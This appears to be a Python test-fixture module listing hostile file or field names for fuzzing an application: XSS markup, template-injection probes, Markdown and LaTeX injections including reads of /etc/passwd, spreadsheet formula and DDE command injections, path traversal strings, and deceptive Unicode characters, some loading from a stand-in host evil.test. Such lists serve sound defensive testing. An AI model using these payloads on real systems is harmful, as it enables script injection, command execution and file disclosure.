"""Hostile names: markup, script, Markdown, LaTeX, formulas, path parts, control and direction characters."""

MARKUP = [
    "<script>window.hit=1</script>", "<SCRIPT>window.hit=1</SCRIPT>", "</td><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>", "<svg onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>",
    "<body onload=window.hit=1>", "<iframe src=javascript:window.hit=1>", "<a href=javascript:window.hit=1>x</a>",
    "<details open ontoggle=window.hit=1>", "<input autofocus onfocus=window.hit=1>", "<video><source onerror=window.hit=1>",
    "<math><mi xlink:href=javascript:window.hit=1>", "<object data=javascript:window.hit=1>", "<embed src=javascript:window.hit=1>",
    "<form action=javascript:window.hit=1><button>x", "<link rel=stylesheet href=//evil.test/a.css>", "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<base href=//evil.test/>", "<style>*{background:url(//evil.test/x)}</style>", "<img src=//evil.test/pixel.png>",
    "<script src=//evil.test/x.js></script>", "<!--", "-->", "<![CDATA[<script>window.hit=1</script>]]>", "<?php echo 1 ?>",
    "\"><script>window.hit=1</script>", "'><script>window.hit=1</script>", "\" onmouseover=\"window.hit=1", "' onfocus='window.hit=1",
    "` onload=`window.hit=1", "&lt;script&gt;window.hit=1&lt;/script&gt;", "&#60;script&#62;window.hit=1", "<scr<script>ipt>window.hit=1</script>",
    "<ScRiPt x>window.hit=1</sCrIpT >", "<script/src=data:,window.hit=1>", "<img/src='x'/onerror='window.hit=1'>", "<svg/onload=window.hit=1//",
    "<marquee onstart=window.hit=1>", "<select onfocus=window.hit=1 autofocus>", "<textarea autofocus onfocus=window.hit=1>", "<template><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>", "</style><script>window.hit=1</script>", "</title><script>window.hit=1</script>", "</textarea><script>window.hit=1</script>",
    "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('window.hit=1')()}}",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:window.hit=1)", "![x](//evil.test/a.png)", "# heading", "**bold**", "`code`", "| a | b |", "> quote", "---",
    "[a]: //evil.test", "<//evil.test>", "```\ncode\n```", "1. one", "- [ ] task", "![](x onerror=window.hit=1)", "[x](data:text/html,<script>window.hit=1</script>)",
]  # fmt: skip
LATEX = [
    "$x^2$",
    "$$\\int$$",
    "\\(x\\)",
    "\\[x\\]",
    "\\href{javascript:window.hit=1}{x}",
    "$\\mathrm{x}$ and $",
    "\\input{/etc/passwd}",
    "$\\frac{$",
]
FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil.test\")", "\t=1+1", "\r=1+1", "=IMPORTXML(\"//evil.test\")",
    "=DDE(\"cmd\")", "+cmd|' /C calc'!A0", "=@A1", "-2+3+cmd|' /C calc'!D2", "@A1",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "a/b", "a\\b", ".", "..", "con", "nul.txt", "a:b", "a|b", "a?b*c", "%2e%2e%2f",
    "~root", "$HOME", "name\x00.html", "x" * 300,
]  # fmt: skip
CHARACTERS = [
    "\u202egnp.exe", "\u200b", "\u2066evil\u2069", "\ufeffbom", "\x07bell", "\x1b[31mred", "a\u0301", "\u0000", "\u2028line", "\u2029para",
    "大客戶 <b>", "𝕏", "🏭", "ﷺ", "line\nbreak", "tab\there", "\x7f", "\u00a0",
]  # fmt: skip
PAYLOADS = MARKUP + MARKDOWN + LATEX + FORMULAS + PATHS + CHARACTERS
